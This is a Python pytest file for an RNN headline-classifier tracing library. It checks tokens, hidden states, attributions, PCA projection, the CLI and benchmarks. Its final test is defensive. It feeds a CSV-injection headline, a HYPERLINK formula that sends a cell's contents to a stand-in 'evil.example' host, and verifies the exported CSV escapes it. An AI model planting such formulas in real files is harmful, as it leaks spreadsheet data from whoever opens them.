"""rnnlab.analysis: the trace engine and its analyses on small trained runs (trained once per test session)."""
import json

import numpy as np
import pytest
import tensorflow as tf

from rnnlab import cli
from rnnlab.config import CLASS_NAMES
from rnnlab.errors import InputError
from rnnlab.models import token_model, vectorize
from rnnlab.cells import CELLS
from rnnlab.reference import keras_sequences
from rnnlab.text import clean_text
from rnnlab.analysis import projection
from rnnlab.analysis.neurons import neuron_contexts
from rnnlab.analysis.padding import padding_demo
from rnnlab.analysis.trace import TraceError, Tracer
from rnnlab.evaluation import predict_encoded

ATOL = 1e-5
HEADLINE = "Oil prices soar as U.S. stocks fall; state-of-the-art chips sell out"

# Small runs: (description, make_run overrides). The lesson's shapes in miniature.
RUNS = {
    "gru": dict(),                                                    # GRU(8), masking
    "bilstm": dict(cell="lstm", layers=2, bidirectional=True),        # 2 x Bi-LSTM(8), masking
    "rnn-nomask": dict(cell="simple_rnn", masking=False),             # SimpleRNN(8), no masking
    "bigru-nomask": dict(cell="gru", layers=2, bidirectional=True, masking=False),
}


@pytest.fixture(scope="module", params=list(RUNS))
def traced(request, make_run, tracer_of):
    run = make_run(**RUNS[request.param])
    return run, tracer_of(run)


@pytest.fixture(scope="module")
def bilstm(make_run, tracer_of):
    run = make_run(**RUNS["bilstm"])
    return run, tracer_of(run)


_TOKEN_MODELS = {}


def tokens_model(run):
    """One token model per run, so predict_encoded's compiled function is reused."""
    if run.run_id not in _TOKEN_MODELS:
        _TOKEN_MODELS[run.run_id] = token_model(run.model)
    return _TOKEN_MODELS[run.run_id]


def ids_of(run, text):
    return np.asarray(vectorize(run.model, [text])[0] or [1], dtype=np.int64)


# -- tokens ----------------------------------------------------------------------------

def test_tokens_as_the_vectorizer_sees_them(bilstm):
    run, tracer = bilstm
    trace = tracer.trace(HEADLINE, integrated_gradients=False)
    assert [t.id for t in trace.tokens] == vectorize(run.model, [HEADLINE])[0]
    assert trace.cleaned == clean_text(HEADLINE)
    assert [t.token for t in trace.tokens] == trace.cleaned.split(" ")
    assert all(t.unknown == (t.id == 1) for t in trace.tokens)
    words = {t.token: t.word for t in trace.tokens}
    assert words["us"] == "U.S." and words["fall"] == "fall;" and words["oil"] == "Oil"
    assert [t.word for t in trace.tokens if t.token in ("state", "of", "the", "art")] == ["state-of-the-art"] * 4
    assert not trace.truncated and trace.max_length == 32


def test_words_split_where_the_cleanup_splits(bilstm):
    _, tracer = bilstm
    trace = tracer.trace("Stocks\u00a0rally\u3000today\x00again", integrated_gradients=False, projection=False)
    assert [(t.token, t.word) for t in trace.tokens] == [("stocks", "Stocks"), ("rally", "rally"),
                                                          ("today", "today"), ("again", "again")]


def test_words_fall_back_to_tokens_when_cleanup_joins_words(bilstm):
    _, tracer = bilstm
    trace = tracer.trace("America #39;s Cup", integrated_gradients=False)
    assert [t.token for t in trace.tokens] == ["americas", "cup"]
    assert [t.word for t in trace.tokens] == ["americas", "cup"]


def test_long_text_is_cut_and_says_so(bilstm):
    run, tracer = bilstm
    text = " ".join(["market"] * 20 + ["football"] * 30)
    trace = tracer.trace(text, projection=False)
    assert trace.truncated and len(trace.tokens) == 32 == trace.prefix_probabilities.shape[0]
    np.testing.assert_allclose(trace.probabilities, predict_encoded(tokens_model(run), [ids_of(run, text)])[0],
                               atol=ATOL)


@pytest.mark.parametrize("text", ["", "   ", "\n\t "])
def test_empty_text_is_a_clear_error(bilstm, text):
    with pytest.raises(InputError, match="empty"):
        bilstm[1].trace(text)


def test_too_long_and_invalid_text_are_errors(bilstm):
    with pytest.raises(InputError, match="20,000"):
        bilstm[1].trace("a" * 20_001)
    with pytest.raises(InputError, match="Unicode"):
        bilstm[1].trace("bad \ud800 text")


@pytest.mark.parametrize("text", ["zzqx blorfle wuxxa", "!!! ??? ...", "😀🔥", "中国 股市 上涨", "النفط يرتفع",
                                  "oil\x00prices", "Ölpreis steigt – Börse fällt"])
def test_unknown_and_foreign_text_gives_a_trace(bilstm, text):
    run, tracer = bilstm
    trace = tracer.trace(text, projection=False)
    assert len(trace.tokens) >= 1
    assert np.isfinite(trace.prefix_probabilities).all()
    np.testing.assert_allclose(trace.probabilities.sum(), 1.0, atol=1e-5)
    # What Predictor gives (text that cleans to nothing is read as one [UNK] there too).
    np.testing.assert_allclose(trace.probabilities, predict_encoded(tokens_model(run), [ids_of(run, text)])[0],
                               atol=ATOL)
    json.dumps(trace.to_dict())
    if text.startswith(("zzqx", "!!!", "😀")):
        assert all(t.unknown and t.id == 1 for t in trace.tokens)
    if text == "oil\x00prices":
        assert [t.token for t in trace.tokens] == ["oil", "prices"]


# -- states, probabilities, attributions -------------------------------------------------

def test_hidden_states_match_keras(traced):
    run, tracer = traced
    trace = tracer.trace(HEADLINE, integrated_gradients=False, projection=False)
    ids = ids_of(run, HEADLINE)
    expected = keras_sequences(run.model, ids[None])
    names = [(layer.name, layer.direction) for layer in trace.layers]
    assert names == [(f"rnn_{i + 1}", d) for i, dirs in enumerate(expected) for d in dirs]
    for layer in trace.layers:
        index = int(layer.name.split("_")[1]) - 1
        np.testing.assert_allclose(layer.hidden, expected[index][layer.direction][0], atol=ATOL)
        assert layer.cell == run.config.cell and layer.hidden.shape == (len(ids), run.config.units)
        assert list(layer.internals) == list(CELLS[run.config.cell].internal_names)
        for value in layer.internals.values():
            assert value.shape == layer.hidden.shape
    last = [layer for layer in trace.layers if layer.name == f"rnn_{run.config.layers}"][0].hidden
    np.testing.assert_allclose(trace.state_change, np.linalg.norm(np.diff(last, axis=0, prepend=0), axis=1),
                               atol=1e-6)


def test_prefix_probabilities_are_each_prefix_alone(traced):
    run, tracer = traced
    trace = tracer.trace(HEADLINE, integrated_gradients=False, projection=False)
    ids = ids_of(run, HEADLINE)
    separate = predict_encoded(tokens_model(run), [ids[:k] for k in range(1, len(ids) + 1)])
    np.testing.assert_allclose(trace.prefix_probabilities, separate, atol=ATOL)
    np.testing.assert_array_equal(trace.prefix_probabilities[-1], trace.probabilities)
    model_says = np.asarray(run.model(tf.constant([[HEADLINE]])))[0]
    np.testing.assert_allclose(trace.probabilities, model_says, atol=ATOL)
    assert trace.predicted_class == CLASS_NAMES[int(model_says.argmax())]


def test_occlusion_is_the_drop_when_a_token_becomes_unk(traced):
    run, tracer = traced
    trace = tracer.trace(HEADLINE, integrated_gradients=False, projection=False)
    assert set(trace.attributions) == {"occlusion"}
    ids = ids_of(run, HEADLINE)
    variants = []
    for j in range(len(ids)):
        v = ids.copy()
        v[j] = 1
        variants.append(v)
    probs = predict_encoded(tokens_model(run), variants)[:, trace.predicted_index]
    np.testing.assert_allclose(trace.attributions["occlusion"], trace.probabilities[trace.predicted_index] - probs,
                               atol=ATOL)
    for token, value in zip(trace.tokens, trace.attributions["occlusion"]):
        if token.unknown:
            assert abs(value) < 1e-6


def test_integrated_gradients_add_up(bilstm):
    run, tracer = bilstm
    trace = tracer.trace(HEADLINE, ig_steps=256)
    ig = trace.attributions["integrated_gradients"]
    assert ig.shape == (len(trace.tokens),)
    # Completeness: the attributions sum to F(x) - F(zero embeddings).
    x = np.zeros((1, len(trace.tokens), run.config.embed_dim), np.float32)
    for name in ("rnn_1", "rnn_2"):
        x = run.model.get_layer(name)(x)
    baseline = np.asarray(run.model.get_layer("classifier")(x))[0, trace.predicted_index]
    gap = trace.probabilities[trace.predicted_index] - baseline
    assert abs(ig.sum() - gap) < 0.02 * abs(gap) + 1e-4


def test_no_retracing_across_lengths(bilstm):
    _, tracer = bilstm
    for text in ("oil", "oil prices", HEADLINE, HEADLINE + " again and again"):
        tracer.trace(text)
    padding_demo(tracer, "oil prices", pads=3)
    assert all(count == 1 for count in tracer.tracing_counts().values()), tracer.tracing_counts()


# -- output formats ----------------------------------------------------------------------

def test_to_dict_is_json_and_complete(traced):
    run, tracer = traced
    bilstm = run.config.cell == "lstm"   # integrated gradients and projection on one run keep this quick
    trace = tracer.trace(HEADLINE, integrated_gradients=bilstm, projection=bilstm)
    data = trace.to_dict()
    assert json.loads(json.dumps(data)) == data
    for key in ("tokens", "layers", "prefix_probabilities", "probabilities", "predicted_class", "attributions",
                "cleaned", "truncated", "state_change", "projection"):
        assert key in data
    n = len(trace.tokens)
    assert np.asarray(data["prefix_probabilities"]).shape == (n, 4)
    assert set(data["attributions"]) == ({"occlusion", "integrated_gradients"} if bilstm else {"occlusion"})
    assert (data["projection"] is not None) == bilstm
    for layer in data["layers"]:
        assert {"name", "direction", "hidden", *CELLS[run.config.cell].internal_names} <= set(layer)
        assert np.asarray(layer["hidden"]).shape == (n, run.config.units)


def test_to_frame_has_one_row_per_token(bilstm):
    _, tracer = bilstm
    trace = tracer.trace(HEADLINE)
    frame = trace.to_frame()
    assert len(frame) == len(trace.tokens)
    for column in ("token", "word", "unknown", "top_class", "top_probability", "occlusion",
                   "integrated_gradients", "state_change", *(f"p_{c}" for c in CLASS_NAMES)):
        assert column in frame.columns
    np.testing.assert_allclose(frame["top_probability"], trace.prefix_probabilities.max(axis=1))
    assert frame.to_csv(index=False).count("\n") == len(trace.tokens) + 1


# -- projection, neurons, padding -------------------------------------------------------------

def test_projection_basis_is_cached_and_reused(bilstm, monkeypatch):
    run, tracer = bilstm
    basis = projection.projection_basis(tracer)
    path = run.path / projection.PCA_FILE
    assert path.is_file() and not [p for p in run.path.iterdir() if p.name.endswith(".tmp")]
    assert np.asarray(basis.components).shape == (2, 2 * run.config.units)
    assert basis.n_headlines == projection.PCA_SAMPLE_SIZE
    trace = tracer.trace(HEADLINE, integrated_gradients=False)
    assert trace.projection.shape == (len(trace.tokens), 2)

    # A fresh tracer (another process, say) reads pca.json instead of fitting again.
    monkeypatch.setattr(projection, "fit_basis", lambda *args: pytest.fail("fitted again"))
    fresh = Tracer(run)
    assert projection.projection_basis(fresh) == basis
    np.testing.assert_allclose(fresh.trace(HEADLINE, integrated_gradients=False).projection, trace.projection,
                               atol=1e-6)
    # The path ends where the classifier's input for the whole text lies.
    feats, _ = tracer.features(ids_of(run, HEADLINE)[None], np.ones((1, len(trace.tokens)), bool))
    np.testing.assert_allclose(basis.project(feats)[0], trace.projection[-1], atol=1e-5)


def test_neuron_contexts(traced):
    run, tracer = traced
    layer = f"rnn_{run.config.layers}"
    direction = "backward" if run.config.bidirectional else "forward"
    result = neuron_contexts(tracer, layer, direction, unit=2, n=5, window=2)
    top, bottom = result.top, result.bottom
    assert len(top) == 5 and len(bottom) == 5
    values = [c.value for c in top]
    assert values == sorted(values, reverse=True) and top[-1].value >= bottom[-1].value
    assert [c.value for c in bottom] == sorted(c.value for c in bottom)
    assert len({c.context for c in top}) == 5
    best = top[0]
    assert f"«{best.token}»" in best.context
    # The value is that unit's state at that token when the headline alone is traced.
    trace = tracer.trace(best.headline, integrated_gradients=False, projection=False)
    assert trace.tokens[best.position].token == best.token or best.token == "[UNK]"
    np.testing.assert_allclose(trace.layer(layer, direction).hidden[best.position, 2], best.value, atol=ATOL)


def test_neuron_contexts_list_each_headline_once_and_no_source_tags():
    """Worked example: the unit is highest on «afp» and six times in one headline."""
    from rnnlab.analysis.neurons import _StateSample, _pick
    tokens = [["oil", "prices", "soar", "afp"], ["oil", "prices", "soar", "afp"],
              ["stocks", "fall", "in", "tokyo"], ["reuters", "rebels", "seize", "capital"]]
    positions = np.array([(t, p) for t in range(4) for p in range(4)])
    values = np.array([5.0, 6, 7, 9,   5, 6, 7, 9,   1, 2, 3, 4,   8, 0.5, 0.2, 0.1])
    sample = _StateSample([" ".join(t) for t in tokens], tokens, positions, {})
    picked = _pick(sample, values, np.argsort(values, kind="stable")[::-1], n=5, window=1)
    assert [c.context for c in picked] == ["prices «soar» afp", "in «tokyo»", "reuters «rebels» seize"]
    assert [c.value for c in picked] == [7, 4, 0.5]


def test_neuron_contexts_refuse_bad_requests(bilstm):
    _, tracer = bilstm
    for args in (("rnn_9", "forward", 0), ("rnn_1", "sideways", 0), ("rnn_1", "forward", 8),
                 ("rnn_1", "forward", -1)):
        with pytest.raises(TraceError):
            neuron_contexts(tracer, *args)


def test_padding_demo(traced):
    run, tracer = traced
    demo = padding_demo(tracer, "Oil prices soar as stocks fall", pads=6)
    assert demo.model_masking is run.config.masking
    for read in (demo.masked, demo.unmasked):
        assert read.probabilities.shape == (7, 4) and read.state_drift.shape == (7,)
        assert read.state_drift[0] == 0
    assert demo.masked.state_drift.max() < 1e-5
    assert (demo.unmasked.state_drift[1:] > 1e-4).all()
    # The run's own setting is what its model really does with padding.
    ids = ids_of(run, "Oil prices soar as stocks fall")
    padded = np.array([np.concatenate([ids, np.zeros(k, np.int64)]) for k in (0, 6)][1:])
    own = demo.own.probabilities[6]
    np.testing.assert_allclose(own, np.asarray(tokens_model(run)(padded))[0], atol=ATOL)
    with pytest.raises(TraceError):
        padding_demo(tracer, "oil", pads=-1)


# -- command line ------------------------------------------------------------------------

def test_cli_trace_json(bilstm, run_store, monkeypatch, capsys):
    run, _ = bilstm
    monkeypatch.setenv("RNNLAB_RUNS_DIR", str(run_store.root))
    assert cli.main(["trace", run.run_id, HEADLINE, "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    for key in ("tokens", "layers", "prefix_probabilities", "probabilities", "predicted_class", "attributions"):
        assert key in data
    assert {layer["direction"] for layer in data["layers"]} == {"forward", "backward"}
    assert "cell" in data["layers"][0] and "forget_gate" in data["layers"][0]
    assert set(data["attributions"]) == {"occlusion", "integrated_gradients"}

    assert cli.main(["trace", run.run_id, "Stocks rally", "--json", "--no-ig"]) == 0
    assert set(json.loads(capsys.readouterr().out)["attributions"]) == {"occlusion"}


def test_cli_trace_table_and_errors(bilstm, run_store, monkeypatch, capsys):
    run, _ = bilstm
    monkeypatch.setenv("RNNLAB_RUNS_DIR", str(run_store.root))
    assert cli.main(["trace", run.run_id, "Stocks rally on Wall Street", "--no-ig"]) == 0
    out = capsys.readouterr().out
    assert "top class after token" in out and "wall" in out and "street" in out
    assert cli.main(["trace", run.run_id, "   "]) == 2
    err = capsys.readouterr().err
    assert err.startswith("rnnlab: error:") and "empty" in err and err.count("\n") == 1
    assert cli.main(["trace", "no-such-run", "oil"]) == 2
    assert "no run" in capsys.readouterr().err


def test_bench_trace_runs_on_a_run(bilstm, run_store, monkeypatch):
    """The benchmark's code path (timings themselves are not asserted)."""
    from rnnlab import trace_bench
    run, _ = bilstm
    monkeypatch.setenv("RNNLAB_RUNS_DIR", str(run_store.root))
    monkeypatch.setattr(trace_bench, "LENGTHS", (5, 40))
    result = trace_bench.bench_trace(run.run_id, repeats=2)
    row = result["results"]["lstm"]["40_tokens"]
    assert row["tokens_traced"] == 32 and row["trace_ms"]["median"] > 0
    assert set(result["target"]) >= {"trace_ms_median", "trace_with_ig_ms_median", "met"}
    assert all(count == 1 for count in result["results"]["lstm"]["tracing_counts"].values())


@pytest.fixture
def own_run(make_run, tmp_path):
    """A private copy of a tiny run with its pca.json, so tampering touches no other test."""
    from rnnlab.runs import RunStore
    run = make_run()
    store = RunStore(tmp_path)
    store.save(run.run_id, run.model, run.config, run.history, run.metrics)
    copy = store.load(run.run_id)
    projection.projection_basis(Tracer(copy))
    return copy


@pytest.mark.parametrize("field, value", [
    ("explained_variance_ratio", "ab"), ("explained_variance_ratio", []),
    ("explained_variance_ratio", ["0.5", "0.2"]), ("class_centroids", [1, 2]),
    ("class_centroids", {"World": ["a", "b"]}), ("class_centroids", {"Elsewhere": [0, 0]}),
    ("bounds", None), ("bounds", {"x": [0, 1]}), ("mean", "ab"), ("components", [[True]]),
    ("mean", float("nan")),
])
def test_a_tampered_pca_json_is_refitted_never_served(own_run, monkeypatch, field, value):
    """Finding 3 (issue 16): a pca.json with explained_variance_ratio "ab" or [], or
    class_centroids [1, 2], crashed Explore: only mean and components were checked."""
    path = own_run.path / projection.PCA_FILE
    good = json.loads(path.read_text())
    if field == "mean" and isinstance(value, float):
        value = [value] * len(good["mean"])
    path.write_text(json.dumps({**good, field: value}))
    assert projection.load_basis(Tracer(own_run)) is None
    monkeypatch.setattr(projection, "fit_and_write", lambda *args: "refitted")
    assert projection.projection_basis(Tracer(own_run)) == "refitted"


def test_a_refitted_basis_replaces_the_tampered_file(own_run):
    """Finding 3 (issue 16): the bad file is rewritten with a good basis."""
    path = own_run.path / projection.PCA_FILE
    good = json.loads(path.read_text())
    path.write_text(json.dumps({**good, "class_centroids": [1, 2]}))
    basis = projection.projection_basis(Tracer(own_run))
    assert basis.class_centroids == good["class_centroids"]
    assert json.loads(path.read_text())["class_centroids"] == good["class_centroids"]


def test_trace_csv_holds_no_live_spreadsheet_formula(make_run, tracer_of):
    """Finding 7 (issue 16): a shared link with headline =HYPERLINK("http://..."&A1,"Click")
    made the trace CSV download hold a live formula in its word column."""
    import csv
    import io

    from rnnlab_app.results import trace_csv
    text = '=HYPERLINK("http://evil.example/?"&A1,"Click") +cmd -2 @SUM(A1) rally'
    trace = tracer_of(make_run()).trace(text, integrated_gradients=False)
    assert any(t.word.startswith("=HYPERLINK") for t in trace.tokens)
    for data in (trace.to_csv(), trace_csv(trace)):
        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
        assert len(rows) == len(trace.tokens)
        cells = [value for row in rows for key, value in row.items() if key in ("token", "word", "top_class")]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
        words = [row["word"] for row in rows]
        assert "'" + '=HYPERLINK("http://evil.example/?"&A1,"Click")' in words and "rally" in words
        assert "'-2" in words and "'+cmd" in words and "'@SUM(A1)" in words
        assert float(rows[0]["p_World"]) >= 0       # numbers stay numbers
